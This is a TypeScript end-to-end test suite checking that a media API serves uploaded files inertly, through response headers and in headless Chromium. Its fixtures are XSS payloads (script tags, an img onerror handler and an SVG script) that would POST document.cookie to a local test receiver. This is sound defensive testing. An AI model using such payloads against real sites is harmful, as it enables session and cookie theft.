// Uploaded files are served inert: checked on the headers of every kind of file, and in a real
// headless browser (Debian's chromium via playwright-core), where an uploaded page's script must not
// run on the API's origin however the file is opened.
import { expect } from 'chai';
import { existsSync } from 'node:fs';
import { chromium, type Browser } from 'playwright-core';
import { startReceiver, type Receiver } from '../support/receiver.js';
import { startTestService, type TestService, type TestWorkspace } from '../support/server.js';

const CHROMIUM = '/usr/bin/chromium';

const upload = async (ts: TestService, ws: TestWorkspace, content: string, fileName: string, type: string): Promise<string> => {
  const form = new FormData();
  form.append('file', new Blob([content], { type }), fileName);
  const response = await fetch(`${ts.url}/api/v1/media/upload`, { method: 'POST', headers: { authorization: `Bearer ${ws.apiKey}` }, body: form });
  expect(response.status).to.equal(201);
  return String(((await response.json()) as { id: string }).id);
};

describe('serving uploaded files (e2e)', function () {
  this.timeout(60_000);
  let ts: TestService;
  let ws: TestWorkspace;
  let receiver: Receiver;

  before(async () => {
    ts = await startTestService();
    ws = await ts.createWorkspace();
    receiver = await startReceiver();
  });
  after(async () => {
    await receiver.close();
    await ts.close();
  });

  const headersOf = async (id: string) => (await fetch(`${ts.url}/api/v1/media/${id}`, { headers: { authorization: `Bearer ${ws.apiKey}` } })).headers;

  it('serves every file with nosniff, a sandboxing CSP and no shared caching; only inert types inline', async () => {
    const cases: [string, string, 'inline' | 'attachment'][] = [
      ['page.html', 'text/html', 'attachment'],
      ['image.svg', 'image/svg+xml', 'attachment'],
      ['data.xml', 'application/xml', 'attachment'],
      ['app.js', 'text/javascript', 'attachment'],
      ['doc.pdf', 'application/pdf', 'attachment'],
      ['blob.bin', 'application/x-unknown', 'attachment'],
      ['photo.png', 'image/png', 'inline'],
      ['clip.mp4', 'video/mp4', 'inline'],
      ['notes.txt', 'text/plain', 'inline'],
    ];
    for (const [name, type, disposition] of cases) {
      const headers = await headersOf(await upload(ts, ws, 'x', name, type));
      expect(headers.get('content-type'), name).to.match(new RegExp(`^${type.replace('+', '\\+')}`));
      expect(headers.get('content-disposition'), name).to.equal(`${disposition}; filename*=UTF-8''${encodeURIComponent(name)}`);
      expect(headers.get('x-content-type-options'), name).to.equal('nosniff');
      expect(headers.get('content-security-policy'), name).to.equal("default-src 'none'; style-src 'unsafe-inline'; sandbox");
      expect(headers.get('cache-control'), name).to.equal('private, no-cache');
    }
  });

  describe('in a real browser', () => {
    let browser: Browser;
    before(async function () {
      // npm test installs chromium (scripts/test.sh); a bare `mocha` run without it skips only this.
      if (!existsSync(CHROMIUM)) this.skip();
      browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
    });
    after(async () => {
      await browser?.close();
    });

    /** A page whose script, if it ever ran, would report to the receiver and rename the page. */
    const hostile = (tag: string) =>
      `<html><head><title>inert</title></head><body><script>document.title='pwned';fetch('${receiver.url}/pwned-${tag}',{method:'POST',mode:'no-cors',body:document.cookie})</script><img src=x onerror="fetch('${receiver.url}/pwned-img-${tag}',{method:'POST',mode:'no-cors'})"></body></html>`;

    const open = async (id: string) => {
      const context = await browser.newContext({ extraHTTPHeaders: { authorization: `Bearer ${ws.apiKey}` }, acceptDownloads: true });
      const page = await context.newPage();
      const download = page.waitForEvent('download', { timeout: 5_000 }).then(() => true, () => false);
      const navigation = await page.goto(`${ts.url}/api/v1/media/${id}`).then(
        () => 'rendered',
        (error: Error) => (/Download is starting/.test(error.message) ? 'downloaded' : error.message),
      );
      await page.waitForTimeout(500);
      const title = navigation === 'rendered' ? await page.title() : null;
      const text = navigation === 'rendered' ? await page.locator('body').innerText() : null;
      await context.close();
      return { navigation, downloaded: await download, title, text };
    };

    it('downloads an uploaded HTML page instead of running it', async () => {
      const seen = await open(await upload(ts, ws, hostile('html'), 'evil.html', 'text/html'));
      expect(seen.navigation).to.equal('downloaded');
      expect(seen.downloaded).to.equal(true);
      expect(receiver.requests).to.deep.equal([]);
    });

    it('shows HTML uploaded as text/plain as text, without running it', async () => {
      const seen = await open(await upload(ts, ws, hostile('text'), 'evil.txt', 'text/plain'));
      expect(seen.navigation).to.equal('rendered');
      expect(seen.title).to.not.equal('pwned');
      expect(seen.text).to.contain('<script>');
      expect(receiver.requests).to.deep.equal([]);
    });

    it('downloads an SVG with a script instead of running it', async () => {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${receiver.url}/pwned-svg',{method:'POST',mode:'no-cors'})</script></svg>`;
      const seen = await open(await upload(ts, ws, svg, 'evil.svg', 'image/svg+xml'));
      expect(seen.navigation).to.equal('downloaded');
      expect(receiver.requests).to.deep.equal([]);
    });
  });
});
